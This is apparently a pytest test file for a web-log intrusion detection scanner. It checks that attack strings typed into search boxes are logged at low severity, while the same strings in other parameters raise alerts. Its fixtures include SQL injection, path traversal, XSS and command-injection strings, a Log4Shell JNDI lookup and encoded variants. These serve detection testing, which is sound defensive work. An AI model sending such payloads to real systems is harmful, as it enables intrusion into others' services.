"""Attacks in what a person types: seen, never acted on, unless a tool types them."""
import json
import subprocess
import urllib.parse

from conftest import ROOT, SEKISHO, access_line

TYPED = [
    "1' UNION SELECT name, password FROM users explained",
    "../../tsconfig.json",
    "How to alert('hi') in <script>?",
    "; cat /etc/hosts in bash",
    "<img src=x onerror=print()> what is",
]


def scan(*targets):
    log = "".join(access_line(i, t) for i, t in enumerate(targets))
    args = [SEKISHO, "scan", "--parser", "combined", "--rules", str(ROOT / "rules"), "-"]
    out = subprocess.run(args, input=log, capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    rows = [json.loads(line) for line in out.stdout.splitlines()]
    return [r for r in rows if r["kind"] == "event"], [r for r in rows if r["kind"] == "alert"]


def target(parameter, text):
    return f"/find?lang=en&{parameter}={urllib.parse.quote(text)}&page=2"


def levels(events):
    return {d["level"] for e in events for d in e["detections"] if d["category"] not in ("crawler", "recon")}


def test_a_search_for_attacks_is_seen_at_level_low_and_starts_no_alert():
    events, alerts = scan(*(target(p, t) for p, t in zip(["q", "title", "Search", "comment", "text"], TYPED)))
    assert len(events) == len(TYPED)
    assert levels(events) == {"low"}
    assert alerts == []


def test_a_query_in_the_language_of_a_search_box_is_no_injection():
    texts = ['project = "FOO" AND status = "Open"', 'title ~ "x" and space = DEV', 'text ~ "login" and assignee = currentUser()']
    events, alerts = scan(*(target(p, t) for p, t in zip(["jql", "cql", "jql"], texts)))
    assert levels(events) <= {"low"}
    assert alerts == []
    events, _ = scan(*(target("id", t) for t in texts))
    assert levels(events) - {"low"} != set()


def test_the_same_where_nobody_types_is_an_attack():
    events, alerts = scan(*(target("id", t) for t in TYPED))
    assert levels(events) - {"low"} != set()
    assert "web.agreement" in {a["rule"] for a in alerts}


def test_a_match_that_begins_before_the_typed_value_is_no_quotation():
    events, _ = scan("/find?id=1%20union%20all%20select%201,2,user()--&q=x")
    assert levels(events) - {"low"} != set()


def test_ten_in_a_minute_are_a_tool():
    few = [target("q", t) for t in TYPED]
    _, alerts = scan(*few)
    assert alerts == []
    events, alerts = scan(*(few * 5))
    assert len(events) == 25
    assert [a["rule"] for a in alerts] == ["web.search.attack"]
    assert alerts[0]["count"] >= 10 and alerts[0]["entity"]["value"] == "203.0.113.7"


def test_conclusive_evidence_counts_wherever_it_is():
    _, alerts = scan(target("q", "${jndi:ldap://203.0.113.9/a}"))
    assert [a["rule"] for a in alerts] == ["web.log4shell.jndi"]


def test_hidden_in_base64_it_is_quoted_too():
    events, alerts = scan(target("q", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="), target("v", "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"))
    forms = [{d["form"] for d in e["detections"]} for e in events]
    assert forms == [{"base64"}, {"base64"}]
    assert levels(events[1:]) - {"low"} != set()


def test_an_encoded_separator_names_no_parameter():
    union = "1%20union%20select%201,2,3"
    events, _ = scan(
        f"/?x=%26q%3D{union}",
        f"/?x=%2526q%253D1%2520union%2520select%25201,2,3",
        f"/?x=1%26q%3D1%20uni/**/on/**/sel/**/ect%20union/**/select/**/1,2,3",
        f"/?q=1/*&id=*/%20union/**/select/**/1,2,3",
        f"/?{'a=' + 'b' * 9000}&x=%26q%3D{union}",
    )
    assert len(events) == 5
    for event in events:
        assert levels([event]) - {"low"} != set(), event


def test_an_encoded_separator_in_what_is_typed_is_text():
    events, alerts = scan(
        "/?q=a%20%26%20b%20%3Cscript%20src=x.js%3E",
        "/?lang=en&q=a%20%26%20b%2520%253Cscript%2520src=x.js%253E",
        "/?q=R%26D%20%3Cscript%09src=x.js%3E&page=2",
    )
    assert len(events) == 3
    assert levels(events) == {"low"}
    assert alerts == []


def test_a_field_of_a_form_in_brackets_is_typed():
    events, _ = scan(target("comment[body]", TYPED[0]), target("message%5Btext%5D", TYPED[2]), target("bio", TYPED[1]))
    assert len(events) == 3
    assert levels(events) == {"low"}
    events, _ = scan(target("q[id]", TYPED[0]))
    assert levels(events) - {"low"} != set()


def test_what_follows_the_last_parameter_that_is_read_by_itself_is_not_its_value():
    many = "&".join(f"a{i}=1" for i in range(63))
    events, _ = scan(f"/?{many}&q=x&id=exec(%22id%22)")
    assert {d["level"] for e in events for d in e["detections"] if d["rule"] == "web.php.function"} == {"high"}
    events, _ = scan(f"/?{many}&q=exec(%22id%22)&id=x")
    assert {d["level"] for e in events for d in e["detections"] if d["rule"] == "web.php.function"} == {"low"}
